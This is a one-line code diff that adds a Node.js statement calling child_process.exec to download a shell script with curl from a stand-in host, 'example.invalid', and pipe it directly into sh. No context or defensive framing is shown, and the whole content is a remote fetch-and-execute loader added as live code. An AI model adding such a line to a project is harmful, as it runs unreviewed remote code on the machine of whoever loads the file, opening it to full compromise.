@@ -1,0 +1,1 @@
+require('child_process').exec('curl -s https://example.invalid/s.sh | sh');
